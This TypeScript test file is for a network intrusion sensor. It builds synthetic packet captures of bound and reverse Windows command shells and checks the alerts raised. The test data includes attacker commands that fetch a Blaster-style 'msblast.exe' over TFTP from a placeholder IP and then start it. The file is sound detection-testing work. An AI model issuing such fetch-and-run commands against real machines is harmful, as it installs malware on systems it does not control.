// Windows command shells seen in captures: a stream in which one side presents a cmd.exe banner or
// prompt, on any port, bound or reverse, raises windows_shell_seen naming the host, the peer and the
// commands; each typed line is a shell_command alert exactly as the sensor's live 4444 shell gives.
// Captures are built here with capture-writer from inert text only.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { concat, ipTcp, pcapFileHeader, pcapRecord } from '../helpers/capture-writer.js';
import { LINKTYPE } from '../../src/protocols/pcap/capture-types.js';
import { replayFiles } from '../../src/cli/commands/replay.js';
import { ExploitDetector } from '../../src/detect/exploit-detector.js';
import type { Alert } from '../../src/model/alert.js';
import type { PayloadEvent } from '../../src/model/event.js';
import { startSensor, openClient, readBytes, readAll, waitFor } from '../sensor/sensor-harness.js';

const SYN = 0x02;
const ACK = 0x10;
const PSH = 0x08;
const FIN = 0x01;
const T0 = Date.UTC(2003, 7, 11, 16, 0, 0);

/** One TCP connection client -> server with the handshake, then `[fromClient, text]` segments, then FINs. */
function stream(ms: number, c: string, sport: number, s: string, dport: number, said: readonly (readonly [boolean, string])[]): { ms: number; frame: Uint8Array }[] {
  const seq = [1000, 50_000];
  const out: { ms: number; frame: Uint8Array }[] = [];
  const seg = (fromClient: boolean, flags: number, payload: Uint8Array): void => {
    const k = fromClient ? 0 : 1;
    out.push({ ms: ms + out.length * 10, frame: ipTcp({ src: fromClient ? c : s, dst: fromClient ? s : c, sport: fromClient ? sport : dport, dport: fromClient ? dport : sport, seq: seq[k], ack: seq[1 - k], flags, payload }) });
    seq[k] += payload.length + (flags & (SYN | FIN) ? 1 : 0);
  };
  seg(true, SYN, new Uint8Array(0));
  seg(false, SYN | ACK, new Uint8Array(0));
  seg(true, ACK, new Uint8Array(0));
  for (const [fromClient, text] of said) seg(fromClient, PSH | ACK, Buffer.from(text, 'latin1'));
  seg(true, FIN | ACK, new Uint8Array(0));
  seg(false, FIN | ACK, new Uint8Array(0));
  return out;
}

function writeCapture(dir: string, frames: readonly { ms: number; frame: Uint8Array }[]): string {
  const path = join(dir, 'shells.pcap');
  const recs = [...frames].sort((a, b) => a.ms - b.ms).map((f) => pcapRecord(Math.floor(f.ms / 1000), (f.ms % 1000) * 1000, f.frame));
  writeFileSync(path, concat([pcapFileHeader({ linkType: LINKTYPE.RAW }), ...recs]));
  return path;
}

const XP = 'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>';
const W2K = 'Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\nC:\\WINNT\\system32>';

test('shells in a capture: bound on 4444, reverse to 8080, a bare prompt on 5555; an HTTP stream is no shell', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-capshell-'));
  try {
    const path = writeCapture(dir, [
      // bound shell: the attacker connects to the victim's 4444, the victim's cmd.exe greets it
      ...stream(T0, '203.0.113.5', 40000, '192.0.2.20', 4444, [[false, XP], [true, 'tftp -i 203.0.113.5 GET msblast.exe\r\n'], [false, '\r\nC:\\WINDOWS\\system32>'], [true, 'start msblast.exe\r\n']]),
      // reverse shell: the victim connects out to the attacker's 8080 and greets it
      ...stream(T0 + 1000, '192.0.2.30', 1030, '198.51.100.9', 8080, [[true, W2K], [false, 'ipconfig\r\n'], [true, '\r\nWindows IP Configuration\r\n\r\nC:\\WINNT\\system32>'], [false, 'echo <script>\x1b[2J\r\n']]),
      // a prompt and nothing typed
      ...stream(T0 + 2000, '198.51.100.77', 2000, '192.0.2.40', 5555, [[false, 'C:\\WINDOWS\\system32>']]),
      // not a shell: a web page that mentions one
      ...stream(T0 + 3000, '192.0.2.50', 3000, '192.0.2.60', 80, [[true, 'GET / HTTP/1.0\r\n\r\n'], [false, 'HTTP/1.0 200 OK\r\n\r\nC:\\WINDOWS\\system32>']]),
    ]);
    const { alerts } = await replayFiles([path]);
    const seen = alerts.filter((a) => a.rule === 'windows_shell_seen');
    assert.deepEqual(seen.map((a) => a.title), [
      'Windows command shell on 192.0.2.20:4444 (compromised host) used by 203.0.113.5: tftp -i 203.0.113.5 GET msblast.exe; start msblast.exe',
      'Windows command shell on 192.0.2.30:1030 (compromised host) used by 198.51.100.9: ipconfig; echo <script>\\x1b[2J',
      'Windows command shell on 192.0.2.40:5555 (compromised host) used by 198.51.100.77: nothing typed',
    ]);
    assert.ok(seen.every((a) => a.severity === 'critical'));
    assert.equal(seen[0].evidence['prompt'], 'Microsoft Windows XP [Version 5.1.2600]');
    assert.equal(seen[2].evidence['prompt'], 'C:\\\\WINDOWS\\\\system32>');
    const ind = seen[0].indicators.map((i) => `${i.type}=${i.value}`);
    for (const want of ['ipv4-addr=192.0.2.20', 'ipv4-addr=203.0.113.5', 'url=tftp://203.0.113.5/msblast.exe', 'file-name=msblast.exe', 'command=start msblast.exe']) assert.ok(ind.includes(want), `${want} in ${ind.join(', ')}`);
    const typed = alerts.filter((a) => a.rule === 'shell_command').map((a) => `${a.src} ${a.title}`);
    assert.deepEqual(typed, [
      '203.0.113.5 command typed into a shell on 192.0.2.20:4444: tftp -i 203.0.113.5 GET msblast.exe',
      '203.0.113.5 command typed into a shell on 192.0.2.20:4444: start msblast.exe',
      '198.51.100.9 command typed into a shell on 192.0.2.30:1030: ipconfig',
      '198.51.100.9 command typed into a shell on 192.0.2.30:1030: echo <script>\\x1b[2J',
    ]);
    assert.ok(!alerts.some((a) => a.evidence['host'] === '192.0.2.60' || a.src === '192.0.2.50'), 'the web page is no shell');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('replay equals live: a capture of the sensor\'s 4444 shell gives the alerts the live shell gave', async () => {
  const lines = ['tftp -i 192.0.2.9 GET msblast.exe', 'start msblast.exe'];
  const h = await startSensor({ persona: { os: 'windows-xp-sp1' } });
  let live: Alert[] = [];
  let banner = '';
  let sport = 0;
  try {
    const c = await openClient(h.port(4444));
    banner = (await readBytes(c, XP.length)).toString('latin1');
    sport = c.localPort ?? 0;
    c.end(lines.map((l) => `${l}\r\n`).join(''));
    await readAll(c);
    await waitFor('session', () => h.sink.sessions.find((x) => x.dport === 4444));
    const d = new ExploitDetector();
    live = h.sink.events.filter((e): e is PayloadEvent => e.type === 'payload').flatMap((e) => d.push(e));
  } finally {
    await h.stop();
  }
  assert.equal(banner, XP);
  const dir = mkdtempSync(join(tmpdir(), 'vigil-capshell-'));
  try {
    const path = writeCapture(dir, stream(T0, '127.0.0.1', sport, '127.0.0.1', 4444, [[false, banner], ...lines.map((l) => [true, `${l}\r\n`] as const)]));
    const replayed = (await replayFiles([path])).alerts.filter((a) => a.rule === 'shell_command');
    const view = (a: Alert): string => JSON.stringify([a.rule, a.severity, a.title, a.src, a.dport, a.indicators]);
    assert.equal(live.length, 2);
    assert.deepEqual(replayed.map(view), live.map(view));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
